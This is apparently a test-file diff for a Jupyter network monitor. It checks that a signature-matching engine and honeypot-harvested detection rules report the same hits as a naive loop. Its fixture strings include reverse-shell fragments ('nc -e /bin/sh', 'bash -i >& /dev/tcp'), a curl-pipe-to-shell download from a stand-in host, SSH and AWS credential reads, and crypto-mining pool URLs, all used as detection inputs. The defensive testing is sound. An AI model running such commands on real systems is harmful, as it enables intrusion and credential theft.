@@ -302,3 +302,303 @@ def test_zmtp_hypothesis_garbage(data, seed):
     if seed % 2:
         data = encode_greeting() + data
     _compare_zmtp(data, seed)
+
+# -- signature automaton vs naive-loop parity ---------------------------------
+#
+# The two-tier matcher (gate regex + Aho–Corasick candidate enumeration,
+# see monitor/signatures.py) must report exactly the hits the seed's
+# per-signature loop reports, for any text and any catalogue — including
+# catalogues extended mid-stream by honeypot harvesting.  The engine's
+# ``parity_check=True`` mode runs both sides on every scan and raises on
+# divergence, so these tests only need to drive diverse scans through it.
+
+from hypothesis import example
+
+from repro.honeypot.decoy import InteractionRecord
+from repro.honeypot.harvest import SignatureHarvester
+from repro.monitor.logs import JupyterMsgRecord
+from repro.monitor.signatures import (
+    BUILTIN_SIGNATURES,
+    Signature,
+    SignatureEngine,
+)
+
+#: Fragments biased toward the matcher's decision boundaries: every
+#: builtin anchor (the automaton's vocabulary), case-mangled and
+#: truncated variants (gate hit / regex miss), overlapping-anchor bait,
+#: the Kelvin-sign fold boundary, and benign notebook noise.  The one
+#: lower()-vs-IGNORECASE gap an anchored rule declares away
+#: (U+017F) has its own contract test below.
+_PARITY_FRAGMENTS = tuple(
+    anchor
+    for sig in BUILTIN_SIGNATURES
+    for anchor in sig.anchors
+) + (
+    "STRATUM+TCP://Pool.Example:3333", "Mining.Subscribe", "stratum+tcp:/",
+    "bitcoin", "BitCoin wallet", "files are encrypted", "files been encrypted",
+    "pay the ransom", "pay........................ransom",
+    "/dev/tcp/10.0.0.1/4444", "nc -e /bin/sh", "bash -i >& /dev/tcp",
+    "socket.socket()" + "x" * 70 + "subprocess",
+    ".ssh/id_rsa", ".SSH/ID_RSA", "JUPYTER_TOKEN", "jupyter_token",
+    "curl http://x | sh", "wget x || true", "/lsp/../..", "/api", "/api/",
+    "JUPYTER_TOKEN", "jupyter_to\u212aen",  # U+212A KELVIN SIGN: lower() folds it
+    "import numpy as np", "df = pd.read_csv('data.csv')", "print(value)",
+    '{"code": "sum(range(100))"}', "",
+)
+
+
+def _parity_engine(**kwargs) -> SignatureEngine:
+    return SignatureEngine(parity_check=True, **kwargs)
+
+
+def _scan_families(engine: SignatureEngine, text: str):
+    """Scan ``text`` under every family; parity_check raises on any
+    automaton/naive divergence.  Returns jupyter-code hit ids."""
+    rec = JupyterMsgRecord(0.0, "C1", "10.0.0.2", "10.0.0.1", "shell",
+                           "execute_request", code_size=len(text), code=text)
+    hits = [n.name for n in engine.scan_jupyter(rec)]
+    engine.scan_terminal(0.0, "10.0.0.2", text)
+    return hits
+
+
+@settings(max_examples=120, deadline=None)
+@given(st.lists(st.sampled_from(_PARITY_FRAGMENTS), max_size=6),
+       st.text(max_size=40),
+       st.integers(min_value=0, max_value=2**32 - 1))
+@example(["stratum+tcp://", ".ssh/id_rsa"], "", 0)
+def test_signature_automaton_parity_builtin(fragments, noise, seed):
+    """Property: two-tier scan == naive loop over the builtin catalogue."""
+    rng = random.Random(seed)
+    parts = list(fragments) + [noise]
+    rng.shuffle(parts)
+    text = rng.choice([" ", "\n", ""]).join(parts)
+    engine = _parity_engine()
+    _scan_families(engine, text)
+
+
+def test_signature_anchor_contract_long_s_caveat():
+    """U+017F LATIN SMALL LETTER LONG S is the documented gap between the
+    anchor contract's ``str.lower()`` folding and ``re.IGNORECASE``: an
+    *anchored* rule declares those codepoints away (the gate never sees
+    the anchor, so the automaton path reports no hit even though the raw
+    regex would), while an *anchorless* clone of the same rule runs the
+    naive loop and catches it — with full parity."""
+    text = "\u017ftratum+tcp://pool.evil:3333"
+    anchored = SignatureEngine()  # builtin catalogue, SIG-MINER-POOL anchored
+    rec = JupyterMsgRecord(0.0, "C1", "a", "b", "shell", "execute_request",
+                           code_size=len(text), code=text)
+    assert anchored.scan_jupyter(rec) == []
+    # The raw IGNORECASE regex alone *would* match — the declared
+    # divergence the anchor contract trades for the fast gate.
+    assert [s.sig_id for s in anchored._match_naive("jupyter-code", text)] == \
+        ["SIG-MINER-POOL"]
+    miner = next(s for s in BUILTIN_SIGNATURES if s.sig_id == "SIG-MINER-POOL")
+    anchorless = _parity_engine(signatures=[Signature(
+        "SIG-MINER-NOANCHOR", miner.description, miner.family, miner.pattern,
+        avenue=miner.avenue, anchors=())])
+    assert [n.name for n in anchorless.scan_jupyter(rec)] == \
+        ["SIG-MINER-NOANCHOR"]
+
+
+def test_signature_automaton_parity_lone_surrogate():
+    """JSON ``\\ud800`` escapes decode to lone surrogates: UTF-8 folding
+    is unavailable, the matcher must fall back to every anchored rule."""
+    engine = _parity_engine()
+    assert _scan_families(engine, "\ud800 stratum+tcp://pool \ud800") == \
+        ["SIG-MINER-POOL"]
+
+
+def test_signature_automaton_parity_harvested_midstream():
+    """Install honeypot-harvested rules into a live engine mid-stream:
+    the incremental trie extension + lazy failure-link rebuild must stay
+    parity-exact before, during, and after each install."""
+    rng = random.Random(0x48)
+    engine = _parity_engine()
+    hostile = [
+        "stratum+tcp://xmr.pool.evil:3333 mining.subscribe",
+        "curl http://203.0.113.9/stage.sh | sh",
+        "cat ~/.ssh/id_rsa ~/.aws/credentials",
+        "import base64; base64.b64decode('" + "QUJD" * 40 + "')",
+    ]
+    interactions = [
+        InteractionRecord(ts=float(i), honeypot="hp-a", source_ip="203.0.113.7",
+                          kind="cell", content=payload)
+        for i, payload in enumerate(hostile * 2)  # recurrence threshold
+    ]
+    harvested = SignatureHarvester().harvest(interactions)
+    assert harvested, "harvester produced no rules to install"
+    texts = [h + " tail" for h in hostile] + list(_PARITY_FRAGMENTS)
+    matched = set()
+    for i, sig in enumerate(harvested):
+        matched |= set(_scan_families(engine, rng.choice(texts)))
+        engine.add(sig)  # mid-stream install → incremental rebuild
+        for _ in range(3):
+            matched |= set(_scan_families(engine, rng.choice(texts)))
+    assert any(s.startswith("SIG-HP-") for s in matched), \
+        "harvested rules never fired — parity run lacked teeth"
+    assert "SIG-MINER-POOL" in matched
+
+
+# -- monitor fast path vs classic-analysis oracle -----------------------------
+#
+# The engine's canonical-form probes (probe_ws_canonical /
+# probe_zmtp_header) divert conforming Jupyter messages onto an
+# allocation-free fast path; every non-conforming payload falls back to
+# the classic LazyJupyterMessage / JSON analysis.  Forcing the probes to
+# decline everything turns the whole engine into that classic oracle —
+# the two runs must produce byte-identical exported logs and identical
+# health counters for the same session bytes, under any segment
+# chunking and under payload mutations.
+
+from dataclasses import replace as _dc_replace
+
+from repro.monitor import AnalyzerDepth, JupyterNetworkMonitor
+from repro.monitor.export import export_zeek_logs
+from repro.server import (
+    JupyterServer,
+    ServerConfig,
+    ServerGateway,
+    WebSocketKernelClient,
+)
+from repro.simnet import Network
+from repro.telemetry import Telemetry
+
+_SESSION_SEGMENTS = None
+
+
+def _session_segments():
+    """One canned kernel session (recorded once), ending with a cell a
+    builtin signature fires on, so notice.log has content to compare."""
+    global _SESSION_SEGMENTS
+    if _SESSION_SEGMENTS is None:
+        net = Network(default_latency=0.001)
+        server_host = net.add_host("jupyter", "10.0.0.1")
+        client_host = net.add_host("laptop", "10.0.0.2")
+        tap = net.add_tap()
+        server = JupyterServer(ServerConfig(ip="0.0.0.0", token="tok"),
+                               net, server_host)
+        ServerGateway(server)
+        client = WebSocketKernelClient(client_host, server_host, token="tok")
+        client.request("GET", "/api/status")
+        client.start_kernel()
+        client.connect_channels()
+        for i in range(4):
+            client.execute(f"value = sum(range({100 + i}))\nprint(value)")
+        client.execute("import urllib.request\n"
+                       "# stratum+tcp://pool.evil:3333 mining.subscribe\n"
+                       "print('ok')")
+        _SESSION_SEGMENTS = tap.segments
+    return _SESSION_SEGMENTS
+
+
+def _rechunk_segments(segments, rng: random.Random):
+    """Re-chunk the recorded byte stream: split random segments at
+    random byte boundaries (the streams reassemble identically)."""
+    out = []
+    for seg in segments:
+        payload = seg.payload
+        if len(payload) > 2 and rng.random() < 0.4:
+            cut = rng.randint(1, len(payload) - 1)
+            out.append(_dc_replace(seg, payload=payload[:cut]))
+            out.append(_dc_replace(seg, payload=payload[cut:]))
+        else:
+            out.append(seg)
+    return out
+
+
+def _mutate_segments(segments, rng: random.Random):
+    """Flip one bit in ~5% of payloads — protocol and JSON damage both
+    monitors must weather on the identical perturbed stream."""
+    out = []
+    for seg in segments:
+        payload = seg.payload
+        if payload and rng.random() < 0.05:
+            i = rng.randrange(len(payload))
+            payload = payload[:i] + bytes([payload[i] ^ 0x20]) + payload[i + 1:]
+            out.append(_dc_replace(seg, payload=payload))
+        else:
+            out.append(seg)
+    return out
+
+
+def _run_monitor(segments, *, classic: bool, monkeypatch, telemetry=None):
+    import repro.monitor.engine as eng
+
+    if classic:
+        monkeypatch.setattr(eng, "probe_ws_canonical", lambda raw: None)
+        monkeypatch.setattr(eng, "probe_zmtp_header", lambda header: None)
+    kwargs = {} if telemetry is None else {"telemetry": telemetry}
+    monitor = JupyterNetworkMonitor(depth=AnalyzerDepth.JUPYTER, **kwargs)
+    for seg in segments:
+        monitor.on_segment(seg)
+    if classic:
+        monkeypatch.undo()
+    return monitor
+
+
+def _health_dict(monitor):
+    h = monitor.health
+    return {k: getattr(h, k) for k in dir(h)
+            if not k.startswith("_") and isinstance(getattr(h, k), (int, float))}
+
+
+@pytest.mark.parametrize("seed", range(6))
+def test_engine_fast_path_matches_classic_oracle(seed, monkeypatch):
+    """Valid session bytes under any segment chunking: byte-identical
+    exported logs and identical health counters, fast path vs classic."""
+    segments = _session_segments()
+    if seed:
+        segments = _rechunk_segments(segments, random.Random(7000 + seed))
+    fast = _run_monitor(segments, classic=False, monkeypatch=monkeypatch)
+    classic = _run_monitor(segments, classic=True, monkeypatch=monkeypatch)
+    assert export_zeek_logs(fast.logs) == export_zeek_logs(classic.logs)
+    assert _health_dict(fast) == _health_dict(classic)
+    assert fast.logs.counts() == classic.logs.counts()
+
+
+@pytest.mark.parametrize("seed", range(1, 5))
+def test_engine_fast_path_mutated_streams_wire_parity(seed, monkeypatch):
+    """Bit-flipped streams: the wire layers (conn/http/websocket/zmtp)
+    stay byte-identical — the probes sit entirely above them.  The
+    Jupyter layer is exempt by design: a flip that corrupts JSON in a
+    region the canonical span scanner never decodes (say a control char
+    inside a string value) makes the classic *eager* parse reject the
+    whole message while span semantics still serve the valid header
+    fields (DESIGN.md §6); valid-document extraction parity is covered
+    by the probe-oracle tests in test_wire_jupyter.py."""
+    segments = _mutate_segments(_session_segments(), random.Random(8000 + seed))
+    fast = _run_monitor(segments, classic=False, monkeypatch=monkeypatch)
+    classic = _run_monitor(segments, classic=True, monkeypatch=monkeypatch)
+    logs_f, logs_c = export_zeek_logs(fast.logs), export_zeek_logs(classic.logs)
+    for family in ("conn.log", "http.log", "websocket.log", "zmtp.log"):
+        assert logs_f.get(family) == logs_c.get(family), family
+    assert fast.health.bytes_seen == classic.health.bytes_seen
+    assert fast.health.segments_seen == classic.health.segments_seen
+
+
+def test_same_seed_telemetry_on_off_identical_logs(monkeypatch):
+    """Telemetry must observe, never perturb: the exported logs of a
+    telemetry-enabled run differ from a disabled run only in the
+    notice.log trace-stamp columns that exist to differ."""
+    segments = _session_segments()
+    on = _run_monitor(segments, classic=False, monkeypatch=monkeypatch,
+                      telemetry=Telemetry(enabled=True))
+    off = _run_monitor(segments, classic=False, monkeypatch=monkeypatch)
+    logs_on, logs_off = export_zeek_logs(on.logs), export_zeek_logs(off.logs)
+    assert logs_on.keys() == logs_off.keys()
+
+    def strip_stamps(text: str) -> str:
+        lines = text.splitlines()
+        header = lines[0].split("\t")
+        keep = [i for i, col in enumerate(header)
+                if col not in ("trace_id", "span_id")]
+        return "\n".join("\t".join(row.split("\t")[i] for i in keep)
+                         for row in lines)
+
+    for name in logs_on:
+        if name == "notice.log":
+            assert strip_stamps(logs_on[name]) == strip_stamps(logs_off[name])
+        else:
+            assert logs_on[name] == logs_off[name]
+    assert _health_dict(on) == _health_dict(off)
+    assert on.logs.notice_names()  # the session must actually raise notices
